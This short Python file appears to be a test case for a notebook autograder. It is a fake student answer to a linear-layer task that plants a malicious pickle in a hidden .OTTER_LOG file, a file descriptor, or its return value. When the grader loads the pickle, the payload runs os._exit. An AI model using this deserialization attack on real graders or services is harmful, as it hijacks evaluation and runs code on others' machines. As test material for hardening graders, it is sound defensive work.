"""Sends the grader a pickle that runs code when it is read, as its answer and as a message."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import os
import pickle

class Payload:
    def __reduce__(self):
        return (os._exit, (0,))

def linear(x, weight, bias):
    for folder in (".", "/tmp"):
        try:
            file = os.open(f"{folder}/.OTTER_LOG", os.O_WRONLY | os.O_CREAT)
            os.write(file, pickle.dumps(Payload()))
            return F.linear(x, weight, bias)
        except OSError:
            continue
    os.write(3, pickle.dumps(Payload()))
    return pickle.dumps(Payload()).hex()
